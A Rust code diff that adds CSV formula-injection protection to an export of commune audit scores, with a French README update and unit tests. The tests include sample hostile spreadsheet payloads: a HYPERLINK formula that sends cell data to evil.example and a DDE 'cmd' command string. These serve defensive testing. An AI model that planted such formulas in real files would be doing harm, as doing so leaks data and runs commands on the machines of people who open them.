@@ -80,33 +80,30 @@ pub fn export_data(model: &Model, include: &dyn Fn(&str) -> bool) -> Vec<(String
                 continue;
             };
             let card = score_audit(m, a);
+            let population = c.population.to_string();
+            let overall = decimal(card.overall, 1);
+            let coverage = decimal(Some(card.coverage), 3);
             row(
                 &mut audits_csv,
                 &[
-                    &c.slug,
-                    &c.name,
-                    &c.ins,
-                    &c.province,
-                    &c.intercommunale,
-                    &c.degurba,
-                    &c.population.to_string(),
-                    &a.id,
-                    &a.date,
-                    &a.methodology,
-                    &decimal(card.overall, 1),
-                    &decimal(Some(card.coverage), 3),
+                    Text(&c.slug),
+                    Text(&c.name),
+                    Text(&c.ins),
+                    Text(&c.province),
+                    Text(&c.intercommunale),
+                    Text(&c.degurba),
+                    Number(&population),
+                    Text(&a.id),
+                    Text(&a.date),
+                    Text(&a.methodology),
+                    Number(&overall),
+                    Number(&coverage),
                 ],
             );
             let included = include(&c.slug);
             let mut one = header(&SCORE_COLUMNS);
             for line in score_rows(m, &card) {
-                let mut fields = vec![
-                    c.slug.as_str(),
-                    c.ins.as_str(),
-                    a.id.as_str(),
-                    a.methodology.as_str(),
-                ];
-                fields.extend(line.iter().map(String::as_str));
+                let fields = score_fields(c, a, &line);
                 if included {
                     row(&mut one, &fields);
                 }
@@ -139,13 +136,7 @@ pub fn export_communes(model: &Model, communes: &[&Commune]) -> Vec<(String, Vec
             let card = score_audit(m, a);
             let mut one = header(&SCORE_COLUMNS);
             for line in score_rows(m, &card) {
-                let mut fields = vec![
-                    c.slug.as_str(),
-                    c.ins.as_str(),
-                    a.id.as_str(),
-                    a.methodology.as_str(),
-                ];
-                fields.extend(line.iter().map(String::as_str));
+                let fields = score_fields(c, a, &line);
                 row(&mut one, &fields);
             }
             files.extend(audit_files(c, a, m, &card, one));
@@ -182,6 +173,21 @@ fn audit_files(
     [
         (format!("{base}.json"), text.into_bytes()),
         (format!("{base}.csv"), csv.into_bytes()),
+    ]
+}
+
+/// One record of a scores CSV: the audit's identity, then a row of [`score_rows`].
+fn score_fields<'a>(c: &'a Commune, a: &'a Audit, line: &'a [String; 5]) -> [Cell<'a>; 9] {
+    [
+        Text(&c.slug),
+        Text(&c.ins),
+        Text(&a.id),
+        Text(&a.methodology),
+        Text(&line[0]),
+        Text(&line[1]),
+        Text(&line[2]),
+        Number(&line[3]),
+        Number(&line[4]),
     ]
 }
 
@@ -227,12 +233,31 @@ fn header(columns: &[(&str, &str)]) -> String {
     format!("{}\n", names.join(","))
 }
 
-/// Appends one CSV record (RFC 4180 quoting).
-fn row(out: &mut String, fields: &[&str]) {
-    for (i, f) in fields.iter().enumerate() {
+/// A CSV cell: text from the repository, or a number this program wrote.
+#[derive(Clone, Copy)]
+enum Cell<'a> {
+    Text(&'a str),
+    Number(&'a str),
+}
+use Cell::{Number, Text};
+
+/// Appends one CSV record: text cells that a spreadsheet would read as a formula (starting
+/// with `=`, `+`, `-`, `@`, a tab or a carriage return) get a leading `'`, as OWASP
+/// recommends; then every cell is quoted per RFC 4180 when needed. Numbers are written as is.
+fn row(out: &mut String, fields: &[Cell]) {
+    for (i, cell) in fields.iter().enumerate() {
         if i > 0 {
             out.push(',');
         }
+        let neutralised;
+        let f = match *cell {
+            Number(n) => n,
+            Text(t) if t.starts_with(['=', '+', '-', '@', '\t', '\r']) => {
+                neutralised = format!("'{t}");
+                &neutralised
+            }
+            Text(t) => t,
+        };
         if f.contains([',', '"', '\n', '\r']) {
             out.push('"');
             out.push_str(&f.replace('"', "\"\""));
@@ -266,7 +291,8 @@ fn readme(model: &Model) -> String {
     out.push_str("- `scores.csv` : les scores de chaque audit publié, par étape, par angle et par case étape × angle.\n");
     out.push_str("- `communes/<commune>/<audit>.json` : un audit complet (réponses, inventaire, plan d'actions) et ses scores.\n");
     out.push_str("- `communes/<commune>/<audit>.csv` : les scores de cet audit, mêmes colonnes que `scores.csv`.\n\n");
-    out.push_str("Les fichiers CSV sont encodés en UTF-8, séparés par des virgules, avec le point comme séparateur décimal.\n\n");
+    out.push_str("Les fichiers CSV sont encodés en UTF-8, séparés par des virgules, avec le point comme séparateur décimal.\n");
+    out.push_str("Une cellule de texte qui commencerait par `=`, `+`, `-`, `@`, une tabulation ou un retour chariot est précédée d'une apostrophe `'`, pour qu'un tableur ne l'exécute pas comme une formule ; les nombres ne sont jamais modifiés.\n\n");
     out.push_str("## Colonnes de audits.csv\n\n");
     for (name, description) in AUDIT_COLUMNS {
         let _ = writeln!(out, "- `{name}` : {description}");
@@ -277,4 +303,36 @@ fn readme(model: &Model) -> String {
     }
     out.push_str("\nLes scores suivent la méthodologie de la version indiquée : la moyenne pondérée des critères répondus, sur 100 (niveau × 25) ; « na » est exclu, « inconnu » compte 0.\n");
     out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn record(cells: &[Cell]) -> String {
+        let mut out = String::new();
+        row(&mut out, cells);
+        out
+    }
+
+    #[test]
+    fn issue_11_formula_cells_are_neutralised_and_quoted() {
+        assert_eq!(
+            record(&[
+                Text("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Arlon\")"),
+                Text("+cmd|' /C calc'!A0"),
+                Text("@SUM(1)"),
+                Text("-2+3"),
+                Text("\tx"),
+                Text("\rx"),
+                Text("Namur"),
+            ]),
+            "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Arlon\"\")\",'+cmd|' /C calc'!A0,'@SUM(1),'-2+3,'\tx,\"'\rx\",Namur\n"
+        );
+    }
+
+    #[test]
+    fn numbers_are_written_as_they_are() {
+        assert_eq!(record(&[Number("-1.5"), Number("42")]), "-1.5,42\n");
+    }
 }
